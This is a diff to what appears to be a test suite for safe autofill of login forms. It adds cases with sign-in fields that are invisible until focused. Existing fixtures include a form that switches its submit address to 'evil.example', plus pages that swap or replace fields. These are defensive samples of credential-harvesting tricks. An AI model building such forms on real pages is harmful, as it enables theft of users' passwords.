@@ -27,6 +27,8 @@ const LATE = `<!doctype html><title>Sign in</title><script async src="/late.js">
 window.sent = null; window.presses = 0;
 document.querySelector("button").addEventListener("click", () => { presses += 1; fetch("/pressed"); });</script>`;
 const LATE_SCRIPT = `document.querySelector("form").addEventListener("submit", (event) => { event.preventDefault(); window.sent = Object.fromEntries(new FormData(event.target)); });`;
+/** Fields with their labels in them, and transparent as long as nobody is in them. @param {string} style that shows them again */
+const faint = (style) => TWO.replaceAll("<label>", '<label class="field">') + `<style>.field { display: block; width: 400px; height: 40px; } .field input { opacity: 0; transition: opacity 0.1s; } ${style}</style>`;
 const BOTH = { username: "sam", password: "Correct-1" };
 
 /** @typedef {{html: string, outcome?: string, sent?: Record<string, string> | null, values?: Record<string, string>, left?: string[]}} Case */
@@ -42,6 +44,8 @@ const CASES = {
   "a page that goes to another address meanwhile": { html: page(TWO, `on("input", (event) => { if (event.target === word && word.value) requestAnimationFrame(() => history.pushState(null, "", "/elsewhere")); });`), outcome: "moved", sent: null, left: ["", ""] },
   "a form whose address changes in the last moment": { html: page(TWO, `form.addEventListener("submit", () => { form.action = "https://evil.example/"; });`), outcome: "cleared", left: ["", ""] },
 
+  "fields that stay transparent": { html: page(faint(""), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
+  "a password that stays transparent": { html: page(faint(".field input:not([type=password]):focus { opacity: 1; }"), `on("input", take);`), outcome: "hidden", sent: null, left: ["", ""] },
   "a form that would write the password into the address": { html: `<!doctype html><title>Sign in</title><form>${TWO}${BUTTON}</form><script>window.sent = null;</script>`, outcome: "filled", sent: null },
   "a page that puts another kind of field in the place of the password": { html: page(TWO, `on("input", (event) => { if (event.target === user) { const fresh = word.cloneNode(false); fresh.type = "text"; word.replaceWith(fresh); } });`), outcome: "changed", sent: null, left: ["", ""] },
   "a page that gives up after it put a new field in the place of the user name": { html: page(TWO, `${RENEW} on("input", (event) => { if (event.target === user) renew(user); else word.type = "text"; });`), outcome: "changed", sent: null, left: ["", ""] },
@@ -61,6 +65,7 @@ const CASES = {
   "fields that are read-only until they have the focus": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("focus", (event) => { event.target.readOnly = false; }); on("input", take);`) },
   "fields that are read-only until they are pressed": { html: page(TWO.replaceAll("<input", "<input readonly"), `on("pointerdown", (event) => { event.target.readOnly = false; }); on("input", take);`) },
   "a form below the fold of what scrolls within the page": { html: page(TWO, `on("input", take);`).replace("<form", `<div style="height:200px;overflow:auto"><p style="height:3000px"></p><form`) },
+  "fields that are transparent until somebody is in them, with their labels in them": { html: page(faint(".field input:focus, .field input.kept { opacity: 1; }"), `on("input", (event) => { take(event); event.target.classList.toggle("kept", event.target.value !== ""); });`) },
   "a script that comes after the button was pressed": { html: LATE },
   "new fields in the place of those that were written, as frameworks put there whose keys change": { html: page(TWO, `${RENEW} on("input", (event) => { take(event); renew(event.target); });`) },
   "a new field in the place of the one that gets the focus first": { html: page(TWO, `${RENEW} let is = false; on("focus", (event) => { if (!is) { is = true; renew(event.target); } }); on("input", take);`) },
